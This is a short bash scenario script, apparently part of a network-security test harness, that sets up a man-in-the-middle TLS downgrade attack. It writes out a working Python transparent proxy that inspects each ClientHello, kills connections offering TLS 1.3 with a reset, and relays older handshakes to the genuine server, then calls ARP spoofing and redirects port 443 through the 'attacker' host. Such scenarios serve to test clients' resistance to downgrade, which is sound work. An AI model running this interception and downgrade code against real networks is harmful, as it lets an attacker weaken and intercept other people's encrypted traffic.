# shellcheck shell=bash
# Somebody between cuts off every greeting that offers TLS 1.3; older ones pass to the genuine host.
start() { cat >"$S/run/block13.py" <<'PY'
import socket, struct, threading
def original(c):
    raw = c.getsockopt(socket.SOL_IP, 80, 16)  # SO_ORIGINAL_DST
    return socket.inet_ntoa(raw[4:8]), struct.unpack("!H", raw[2:4])[0]
def offers_13(hello):
    at = hello.find(b"\x00\x2b")  # supported_versions, RFC 8446 4.2.1
    while at >= 0:
        size = int.from_bytes(hello[at + 2:at + 4], "big")
        if 3 <= size <= 32 and b"\x03\x04" in hello[at + 5:at + 4 + size]:
            return True
        at = hello.find(b"\x00\x2b", at + 1)
    return False
def pump(a, b):
    try:
        while data := a.recv(65536):
            b.sendall(data)
    except OSError:
        pass
    for s in (a, b):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
def serve(c):
    c.settimeout(10)
    try:
        hello = c.recv(65536)
        if offers_13(hello):
            c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            c.close()
            return
        s = socket.create_connection(original(c), timeout=10)
        s.sendall(hello)
    except OSError:
        c.close()
        return
    threading.Thread(target=pump, args=(c, s), daemon=True).start()
    pump(s, c)
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("0.0.0.0", 8080)); l.listen(50)
while True:
    threading.Thread(target=serve, args=(l.accept()[0],), daemon=True).start()
PY
  sbg attacker block13 python3 "$S/run/block13.py"; wait_port attacker 127.0.0.1 8080
  redirect attacker eth0 443 8080; arp_mitm; }
stop() { unredirect attacker; }
